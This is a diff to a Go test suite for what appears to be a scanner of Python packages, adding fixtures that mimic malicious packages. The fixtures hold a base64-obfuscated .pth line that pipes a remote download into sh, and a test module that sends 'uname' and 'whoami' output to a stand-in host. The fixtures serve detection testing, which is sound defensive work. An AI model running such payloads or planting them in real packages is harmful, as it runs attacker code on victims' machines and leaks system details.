@@ -81,6 +81,12 @@ func TestFixtures(t *testing.T) {
 				{"helper.pth", "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L3YgfCBzaCIp'))\n"},
 				{"helper/__init__.py", ""}}),
 			rules: []string{"pth-code", "py-exec-encoded"}},
+		{name: "probe in a test-named module of the package itself is scanned", want: finding.Malicious,
+			path: writeTarGz(t, dir, "probe-9.9.9.tar.gz", []file{
+				{"probe-9.9.9/PKG-INFO", fmt.Sprintf(pkgInfo, "probe", "9.9.9")},
+				{"probe-9.9.9/probe/__init__.py", ""},
+				{"probe-9.9.9/probe/test_callback.py", "import subprocess\n\ndef test_callback():\n    subprocess.run([\"curl\", \"-fsSL\", \"http://203.0.113.7:8585/p?h=$(uname -a)&u=$(whoami)\"], shell=False)\n"}}),
+			rules: []string{"combo-recon-network"}},
 		{name: "stealer hidden in tests is weighed low", want: finding.Clean,
 			path: writeTarGz(t, dir, "lib-1.0.tar.gz", []file{
 				{"lib-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "lib", "1.0")},
